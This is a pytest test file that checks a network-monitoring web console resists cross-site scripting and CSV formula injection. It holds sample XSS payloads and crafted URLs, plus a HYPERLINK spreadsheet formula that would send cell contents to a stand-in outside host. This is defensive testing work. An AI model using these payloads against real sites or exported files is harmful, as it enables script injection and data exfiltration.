"""A hostile capture, policy or colleague puts markup and formulas into every text: nothing of it may run."""

import csv
import io

import pytest

from columns import ALERT, FLOW
from columns.address import address_int
from columns.codes import Outcome, Severity, Verdict
from columns.protocols.dns import DNS
from columns.protocols.http import HTTP
from columns.protocols.tls import TLS
from storage import Run, RunSummary, open_store
from tests.console.test_console_browser import Tab
from tests.support.console import running

IMAGE = "<img src=x onerror=\"window.hacked='img'\">"
SCRIPT = "</td></script><script>window.hacked='script'</script>"
SVG = "<svg onload=window.hacked='svg'>{{constructor.constructor('window.hacked=1')()}}"
LINK = "javascript:window.hacked='link'"
FORMULA = "=HYPERLINK(\"http://198.51.100.1/\"&A1,\"click\")"
TEXTS = (IMAGE, SCRIPT, SVG, LINK, FORMULA)
START_NS = 1_795_000_000_000_000_000
RUN_ID = "r-<b>x<b>"


def alert_rows():
    """One alert per text, with the text wherever a text can stand."""
    return ALERT.from_rows([
        {"alert_id": i + 1, "revision": 1, "ts_ns": START_NS, "start_ns": START_NS, "end_ns": START_NS + 10**9,
         "detector": text, "signature": text, "signature_ja": text, "category": text, "severity": Severity.CRITICAL,
         "technique": text, "clause": text, "src_ip": address_int("192.0.2.1"), "dst_ip": address_int("198.51.100.1"),
         "dst_prefix_bits": 128, "proto": 6, "src_zone": text, "dst_zone": text, "flow_id": 7, "conduit": text,
         "measured": 3.0, "threshold": 2.0, "measure": text, "events": 1, "why": text, "why_ja": text,
         "runbook": text, "policy_digest": text, "config_digest": text, "ruleset_digest": text}
        for i, text in enumerate(TEXTS)])


def flow_rows():
    """Flows between zones and over conduits of such names."""
    return FLOW.from_rows([
        {"flow_id": 7 + i, "ts_start_ns": START_NS + i, "ts_end_ns": START_NS + 10**9,
         "src_ip": address_int("192.0.2.1"), "dst_ip": address_int("198.51.100.1"), "src_port": 50000, "dst_port": 443,
         "proto": 6, "src_zone": i, "dst_zone": (i + 1) % len(TEXTS), "conduit": i, "pkts_toserver": 3,
         "bytes_toserver": 400,
         "verdict": Verdict.NO_CONDUIT, "outcome": Outcome.ESTABLISHED}
        for i in range(len(TEXTS))])


def said_rows():
    """What a hostile peer says in DNS, HTTP and TLS: a row of each per text."""
    common = [{"ts_ns": START_NS + i, "flow_id": 7 + i, "src_ip": address_int("192.0.2.1"),
               "dst_ip": address_int("198.51.100.1"), "src_zone": i, "dst_zone": i} for i in range(len(TEXTS))]
    return {
        DNS: [{"variant": "dns", "message_type": "request", "rcode": text, "rrname": text, "rrtype": text} for text in
              TEXTS],
        HTTP: [{"hostname": text, "http_user_agent": text, "http_method": text, "status": 200} for text in TEXTS],
        TLS: [{"sni": text, "version": text, "ja4": text, "subject": text, "issuerdn": text, "notafter": text}
              for text in TEXTS],
    }, common


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A console over a store in which every text is hostile."""
    place = tmp_path_factory.mktemp("hostile") / "store"
    with open_store(place) as store:
        store.begin_run(Run(RUN_ID, sensor=IMAGE, site=SVG, captures=(f"/x/{SCRIPT.replace('/', '')}", IMAGE)))
        store.insert(FLOW, flow_rows(), vocabularies={"zone": TEXTS, "conduit": TEXTS})
        store.insert(ALERT, alert_rows())
        said, common = said_rows()
        for table, rows in said.items():
            store.insert(table, table.from_rows([of | row for of, row in zip(common, rows, strict=True)]),
                         vocabularies={"zone": TEXTS})
        store.finish_run(RunSummary(packets=1, bytes=1, digest=IMAGE))
        for i, text in enumerate(TEXTS):
            store.add_alert_action(RUN_ID, i + 1, "acknowledged", actor=text, comment=text)
    with running(place) as client:
        yield client


PAGES = ("/", "/p/zones", "/p/alerts", "/p/dos", "/p/flows", "/p/host?ip=192.0.2.1", "/p/protocols", "/p/health",
         *(f"/alert/r-%3Cb%3Ex%3Cb%3E/{i + 1}" for i in range(len(TEXTS))))


@pytest.mark.parametrize("lang", ["ja", pytest.param("en", marks=pytest.mark.slow)])
def test_no_text_runs_on_any_page(browser, hostile, lang):
    tab = Tab(browser, hostile)
    dialogs = []
    tab.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for path in PAGES:
        page = tab.open(f"{path}{'&' if '?' in path else '?'}lang={lang}")
        for canvas in page.locator(".chart").all():
            canvas.hover(force=True)
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        page.wait_for_timeout(100)
        assert page.evaluate("window.hacked") is None, path
        assert page.evaluate(_INJECTED) == [], path
        assert page.evaluate("[...document.links].filter((a) => !/^https?:$/.test(a.protocol)).length") == 0
    assert dialogs == []
    tab.close()


_INJECTED = """() => [...document.querySelectorAll(
    'svg, b b, img:not([src="/static/icon.svg"]), script:not([src^="/static/"])')]
  .map((e) => e.outerHTML.slice(0, 100))"""


def test_the_texts_are_shown_as_they_are(browser, hostile):
    tab = Tab(browser, hostile)
    text = tab.open("/p/alerts").locator(".queue").inner_text()
    for hostile_text in TEXTS:
        assert hostile_text in text
    page = tab.open("/p/protocols")
    for panel in ("dns_names", "http_hosts", "http_agents", "tls_names", "tls_clients", "tls_certificates"):
        shown = page.locator(f"#panel-protocols-{panel}").inner_text()
        assert all(hostile_text in shown for hostile_text in TEXTS), panel
    page = tab.open("/alert/r-%3Cb%3Ex%3Cb%3E/1")
    assert IMAGE in page.locator(".history").inner_text()
    assert IMAGE in page.locator("h1").inner_text()
    tab.close()


def test_links_with_hostile_values_stay_here(browser, hostile):
    tab = Tab(browser, hostile)
    page = tab.open("/p/zones")
    for i in range(page.locator("#panel-zones-flow_matrix td.heat a").count()):
        tab.open("/p/zones")
        tab.click(f"#panel-zones-flow_matrix td.heat >> nth={i} >> a")
        assert page.url.startswith(f"{hostile.origin}/p/flows?")
        assert page.locator(".panel.wide tbody tr").count() == 1
    tab.close()


@pytest.mark.parametrize("path", ["/p/host?ip=%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D1%3E", "/p/%3Cscript%3E",
                                  "/alert/%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D1%3E/1", "/?lang=%3Cscript%3E",
                                  "/p/flows?ip=%22%3E%3Cscript%3Ewindow.hacked%3D1%3C%2Fscript%3E",
                                  "/p/alerts?text=%3Csvg%20onload%3Dwindow.hacked%3D1%3E&run=%3Cb%3E&zone=%3Cb%3E",
                                  "/p/alerts?status=%3Cimg%20src%3Dx%3E", "/p/flows?verdict=__proto__",
                                  "/?from=a&to=b"])
def test_addresses_that_somebody_else_made_up(browser, hostile, path):
    tab = Tab(browser, hostile)
    page = tab.open(path)
    assert page.evaluate("window.hacked") is None
    assert page.evaluate(_INJECTED) == []
    tab.wrong = [line for line in tab.wrong if "400 (Bad Request)" not in line]
    tab.close()


@pytest.mark.parametrize("path", ["/api/alerts", "/api/flows", "/api/panel/zones/flow_matrix",
                                  "/api/panel/alerts/queue", "/api/panel/health/runs"])
def test_no_cell_of_a_file_is_a_formula(hostile, path):
    answer = hostile.get(path, hostile.whole | {"format": "csv"})
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment;")
    cells = [cell for line in csv.reader(io.StringIO(answer.text)) for cell in line]
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "@", "\t"))]
    assert not [cell for cell in cells if cell.startswith("-") and not cell[1:].replace(".", "").isdigit()]


def test_formulas_are_in_the_file_as_text(hostile):
    text = hostile.get("/api/alerts", hostile.whole | {"format": "csv"}).text
    assert f"'{FORMULA}" in {cell for line in csv.reader(io.StringIO(text)) for cell in line}
